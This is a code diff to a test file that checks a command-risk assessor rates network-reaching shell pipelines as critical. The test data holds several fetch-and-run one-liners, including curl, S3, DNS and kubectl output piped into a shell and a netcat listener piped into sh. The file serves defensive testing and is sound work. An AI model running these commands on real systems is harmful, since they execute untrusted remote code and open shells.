@@ -92,6 +92,8 @@ describe('pipelines that reach the network', () => {
     'aws s3 cp s3://bucket/run.sh - | bash',
     'dig +short txt x.example | rev | python3',
     'nc -l 4444 | sh',
+    'kubectl exec pod -- cat /tmp/x | sh',
+    'curl -s https://x.example/a | while read l; do echo "$l"; done | sh',
   ])('%s is critical', (cmd) => {
     expect(assess(cmd).level, said(cmd)).toBe('critical');
   });
